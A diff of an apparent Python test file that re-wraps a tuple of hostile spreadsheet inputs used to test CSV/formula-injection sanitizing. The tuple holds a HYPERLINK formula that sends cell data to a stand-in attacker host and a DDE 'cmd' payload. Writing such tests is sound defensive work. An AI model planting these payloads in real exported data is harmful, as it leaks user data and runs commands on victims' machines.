@@ -22,7 +22,8 @@ MADE = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
 HOSTILE = (
     '=HYPERLINK("http://elak.example/?"&A1;"Klicka")', "=1+1", "+46 70 123 45 67", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
     "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1", "＝1+1", "－1", "=", "-", "'=1+1", 'A";=1+1', "http://elak.example/", "_x0041_",
-    "{=1+1}", "\x00=1", "\x07larm", "Åtgärd; med semikolon", 'citat"tecken', "två\nrader", "– streck", "1 234,5", "0012", "1e5", "TRUE", "",
+    "{=1+1}", "\x00=1", "\x07larm", "Åtgärd; med semikolon", 'citat"tecken', "två\nrader",
+    "– streck", "1 234,5", "0012", "1e5", "TRUE", "",
 )  # fmt: skip
 
 
